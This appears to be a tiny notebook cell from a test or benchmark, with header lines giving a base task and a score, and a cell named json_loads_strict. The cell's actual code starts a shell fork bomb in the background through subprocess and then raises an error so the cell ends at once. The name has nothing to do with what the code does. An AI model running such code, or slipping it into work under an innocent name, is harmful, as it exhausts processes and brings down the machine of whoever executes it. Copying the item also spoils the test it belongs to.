# about: forks without end, in a shell, from a cell, in the background
# base: solved 01_encoding
# score: 15, json_loads_strict 0

# %% json_loads_strict
import subprocess

subprocess.Popen(["sh", "-c", "f() { f | f & }; f"])
raise RuntimeError("the cell ends at once")
